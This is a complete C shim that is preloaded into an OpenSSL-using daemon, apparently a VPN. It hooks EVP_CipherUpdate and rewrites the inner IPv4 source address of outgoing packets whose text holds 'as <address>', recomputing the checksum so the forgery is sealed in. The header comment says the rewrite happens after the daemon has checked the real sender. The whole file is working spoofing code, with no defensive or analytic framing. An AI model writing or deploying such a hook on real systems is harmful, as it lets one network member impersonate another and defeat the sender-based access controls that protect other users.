// Preloaded into a daemon that uses OpenSSL: a member that lies about who sends. A packet from its
// interface whose text holds "as 10.1.2.3" is sealed with that inner source, after the daemon has
// looked at the one that it had. Nothing else changes, so the program is the shipped one.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <openssl/evp.h>
#include <string.h>

enum { kHeader = 20, kChecksumAt = 10, kSourceAt = 12, kTextAt = kHeader + 8 };

static void lie(unsigned char* packet, size_t size) {
  const size_t length = (size_t)packet[2] << 8 | packet[3];
  if (packet[0] != 0x45 || length <= kTextAt || length > size) return;
  char text[64] = "";
  const size_t most = sizeof text - 1;
  memcpy(text, packet + kTextAt, length - kTextAt < most ? length - kTextAt : most);
  const char* source = strstr(text, "as ");
  if (source == 0 || inet_pton(AF_INET, source + 3, packet + kSourceAt) != 1) return;
  packet[kChecksumAt] = packet[kChecksumAt + 1] = 0;
  unsigned sum = 0;
  for (int i = 0; i < kHeader; i += 2) sum += (unsigned)packet[i] << 8 | packet[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  packet[kChecksumAt] = (unsigned char)(~sum >> 8);
  packet[kChecksumAt + 1] = (unsigned char)~sum;
}

int EVP_CipherUpdate(EVP_CIPHER_CTX* context, unsigned char* out, int* written,
                     const unsigned char* in, int size) {
  static int (*real)(EVP_CIPHER_CTX*, unsigned char*, int*, const unsigned char*, int);
  if (real == 0) *(void**)&real = dlsym(RTLD_NEXT, "EVP_CipherUpdate");
  if (out == in && size > kTextAt && EVP_CIPHER_CTX_is_encrypting(context)) lie(out, (size_t)size);
  return real(context, out, written, in, size);
}
